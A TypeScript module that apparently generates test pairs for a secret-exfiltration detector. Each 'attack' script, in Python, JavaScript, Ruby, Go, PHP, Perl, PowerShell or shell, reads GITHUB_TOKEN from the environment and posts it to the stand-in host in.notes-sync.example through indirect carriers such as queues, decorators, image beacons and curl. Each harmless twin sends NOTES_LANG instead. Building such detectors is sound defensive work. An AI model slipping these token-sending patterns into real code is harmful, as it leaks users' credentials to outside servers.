import { type Pair, script } from './pair.ts';

const SECRET = 'GITHUB_TOKEN';
const PLAIN = 'NOTES_LANG';
const PLACE = 'https://in.notes-sync.example/v1';

type Carrier = { readonly name: string; readonly path: string; readonly code: (variable: string) => string };

/** One way in which a language carries a value from where it is read to where it is sent; the twin carries a harmless one. */
const toPair = ({ name, path, code }: Carrier): Pair => ({
  name: `a token that is carried by ${name}`,
  attack: script(path, code(SECRET)),
  twin: script(path, code(PLAIN)),
});

const python = (name: string, body: (value: string) => string, imports = 'requests'): Carrier => ({
  name,
  path: 'sync.py',
  code: (variable) => `import os\nimport ${imports}\n\n${body(`os.environ["${variable}"]`)}\n`,
});

const javascript = (name: string, body: (value: string) => string): Carrier => ({
  name,
  path: 'sync.mjs',
  code: (variable) => `${body(`process.env.${variable}`)}\n`,
});

const POST = `requests.post("${PLACE}", json=`;
const send = (value: string): string => `fetch('${PLACE}', { method: 'POST', body: ${value} })`;

const PYTHON: readonly Carrier[] = [
  python(
    'a choice beside nothing at all',
    (value) => `row = dict(mark=${value}) if len(os.environ) > 3 else {}
${POST}list(row.values()))`,
  ),
  python(
    'a queue that a worker waits for',
    (value) => `import queue
import threading

waiting = queue.Queue()


def work():
    while True:
        ${POST}waiting.get())


threading.Thread(target=work).start()
waiting.put(${value})`,
  ),
  python(
    'a dictionary that a function fills in',
    (value) => `def fill(into):
    into["mark"] = ${value}


found = {}
fill(found)
${POST}found)`,
  ),
  python(
    'functions that are called one after the other',
    (value) => `STEPS = []


def step(fn):
    STEPS.append(fn)
    return fn


@step
def read(state):
    state["mark"] = ${value}


@step
def tell(state):
    ${POST}state)


state = {}
for one in STEPS:
    one(state)`,
  ),
  python(
    'a name of the program that a function sets',
    (value) => `state = None


def fill():
    global state
    state = ${value}


def flush():
    ${POST}state)


fill()
flush()`,
  ),
  python(
    'what a parameter holds that is not given',
    (value) => `def tell(note, mark=${value}):
    ${POST}{"note": note, "mark": mark})


tell("start")`,
  ),
  python(
    'a table of functions',
    (value) => `def mark():
    return ${value}


PARTS = {"version": lambda: "1", "mark": mark}
${POST}{name: part() for name, part in PARTS.items()})`,
  ),
  python(
    'a text that an object is',
    (value) => `class Note:
    def __str__(self):
        return ${value}


requests.post("${PLACE}", data=f"note={Note()}")`,
  ),
  python(
    'a class that keeps things',
    (value) => `class Store:
    kept = {}

    @classmethod
    def put(cls, name, value):
        cls.kept[name] = value

    @classmethod
    def all(cls):
        return dict(cls.kept)


Store.put("mark", ${value})
${POST}Store.all())`,
  ),
  python(
    'a buffer that is printed to',
    (value) => `import io

note = io.StringIO()
print("mark", ${value}, file=note)
requests.post("${PLACE}", data=note.getvalue())`,
  ),
  python(
    'a request that is prepared',
    (value) => `session = requests.Session()
request = requests.Request("POST", "${PLACE}", json={"mark": ${value}})
session.send(request.prepare())`,
  ),
  python(
    'a client that knows its place',
    (value) => `with httpx.Client(base_url="${PLACE}") as client:
    client.post("/notes", json={"mark": ${value}})`,
    'httpx',
  ),
  python(
    'a call of another machine',
    (value) => `xmlrpc.client.ServerProxy("${PLACE}").note(${value})`,
    'xmlrpc.client',
  ),
];

const JAVASCRIPT: readonly Carrier[] = [
  javascript('a field by the name of what programs inherit', (value) =>
    send(`JSON.stringify({ env: { mark: ${value} } })`),
  ),
  javascript(
    'a promise that is settled later',
    (value) => `const mark = await new Promise((done) => done(${value}));\nawait ${send('mark')};`,
  ),
  javascript(
    'a generator',
    (value) => `function* parts() {
  yield 'v1';
  yield ${value};
}
for (const part of parts()) await ${send('part')};`,
  ),
  javascript(
    'a fold',
    (value) => `const all = ['mark'].reduce((state, name) => ({ ...state, [name]: ${value} }), {});
await ${send('JSON.stringify(all)')};`,
  ),
  javascript(
    'functions that are put behind each other',
    (value) => `const pipe = (...steps) => (start) => steps.reduce((before, step) => step(before), start);
await pipe(() => ${value}, (mark) => ({ mark }), (note) => ${send('JSON.stringify(note)')})('start');`,
  ),
  javascript(
    'a class of its own',
    (value) => `class Settings {
  static mark = ${value};
}
await ${send('Settings.mark')};`,
  ),
  javascript(
    'an object that says how it is written',
    (value) => `class Note {
  toJSON() {
    return { mark: ${value} };
  }
}
await ${send('JSON.stringify(new Note())')};`,
  ),
  javascript(
    'a stream that looks at each piece',
    (value) => `import { Readable, Transform } from 'node:stream';
const look = new Transform({
  transform(piece, _, next) {
    ${send('piece')};
    next(null, piece);
  },
});
Readable.from([${value}]).pipe(look);`,
  ),
  javascript(
    'a message to another program',
    (value) => `import { fork } from 'node:child_process';
if (process.send) process.on('message', (note) => ${send('note.mark')});
else fork(import.meta.filename).send({ mark: ${value} });`,
  ),
  javascript(
    'a client that knows its place',
    (value) => `import axios from 'axios';
const notes = axios.create({ baseURL: '${PLACE}' });
await notes.post('/notes', { mark: ${value} });`,
  ),
  javascript(
    'a request that is added to',
    (value) => `import superagent from 'superagent';
await superagent.post('${PLACE}').send({ mark: ${value} });`,
  ),
  javascript(
    'a request whose place stands in its options',
    (value) => `import https from 'node:https';
const request = https.request({ hostname: 'in.notes-sync.example', path: '/v1', method: 'POST' });
request.end(${value});`,
  ),
  javascript(
    'a picture',
    (value) => `const picture = new Image();
picture.src = \`${PLACE}?mark=\${encodeURIComponent(${value})}\`;`,
  ),
];

const written = (name: string, path: string, code: (variable: string) => string): Carrier => ({ name, path, code });

const OTHERS: readonly Carrier[] = [
  written(
    'a method of Ruby that gives it back',
    'sync.rb',
    (variable) => `require "net/http"

def mark
  ENV.fetch("${variable}")
end

def tell(body)
  Net::HTTP.post(URI("${PLACE}"), body)
end

tell(mark)
`,
  ),
  written(
    'a field of an object of Ruby',
    'sync.rb',
    (variable) => `require "net/http"

class Note
  def initialize
    @mark = ENV["${variable}"]
  end

  def tell
    request = Net::HTTP::Post.new(URI("${PLACE}"))
    request.body = @mark
    Net::HTTP.start("in.notes-sync.example", 443, use_ssl: true) { |http| http.request(request) }
  end
end

Note.new.tell
`,
  ),
  written(
    'functions and a structure of Go',
    'main.go',
    (variable) => `package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"os"
)

type note struct{ Mark string }

func read() note { return note{Mark: os.Getenv("${variable}")} }

func tell(one note) {
	body, _ := json.Marshal(one)
	http.Post("${PLACE}", "application/json", bytes.NewReader(body))
}

func main() { tell(read()) }
`,
  ),
  written(
    'a header of Go',
    'main.go',
    (variable) => `package main

import (
	"net/http"
	"os"
)

func main() {
	request, _ := http.NewRequest(http.MethodGet, "${PLACE}", nil)
	request.Header.Set("X-Mark", os.Getenv("${variable}"))
	http.DefaultClient.Do(request)
}
`,
  ),
  written(
    'an object of PHP',
    'sync.php',
    (variable) => `<?php
class Note {
    public function __construct(private string $mark) {}
    public function tell() { file_get_contents("${PLACE}?mark=" . urlencode($this->mark)); }
}
(new Note(getenv("${variable}")))->tell();
`,
  ),
  written(
    'a function of Perl',
    'sync.pl',
    (variable) => `use LWP::UserAgent;
sub tell_it {
    my ($mark, $note) = @_;
    LWP::UserAgent->new->post("${PLACE}", { mark => $mark, note => $note });
}
tell_it($ENV{${variable}}, 'start');
`,
  ),
  written(
    'a request of Perl that is put together',
    'sync.pl',
    (variable) => `use HTTP::Tiny;
my $body = "note=start";
$body .= "&mark=" . $ENV{${variable}};
HTTP::Tiny->new->request('POST', '${PLACE}', { content => $body });
`,
  ),
  written(
    'a function of PowerShell',
    'sync.ps1',
    (variable) => `function Send-Note {
    param([string]$Mark)
    Invoke-RestMethod -Uri ${PLACE} -Method Post -Body @{ mark = $Mark }
}
Send-Note -Mark $env:${variable}
`,
  ),
  written(
    'a client of .NET',
    'sync.ps1',
    (variable) => `$client = [System.Net.WebClient]::new()
$client.UploadString('${PLACE}', $env:${variable})
`,
  ),
];

const shell = (name: string, code: (variable: string) => string): Carrier => written(name, 'sync.sh', code);

const SHELLS: readonly Carrier[] = [
  shell('a variable that is named by another', (variable) => `name=${variable}\ncurl -s -d "\${!name}" ${PLACE}\n`),
  shell('what is taken where nothing is set', (variable) => `curl -s -d "\${MARK:-$${variable}}" ${PLACE}\n`),
  shell('a field of a client', (variable) => `http POST ${PLACE} mark="$${variable}"\n`),
  shell(
    'a program that asks for one variable',
    (variable) => `jq -n '{mark: env.${variable}}' | curl -s -d @- ${PLACE}\n`,
  ),
];

/** Ways in which ordinary programs carry a value. */
export const CARRIED: readonly Pair[] = [...PYTHON, ...JAVASCRIPT, ...OTHERS, ...SHELLS].map(toPair);
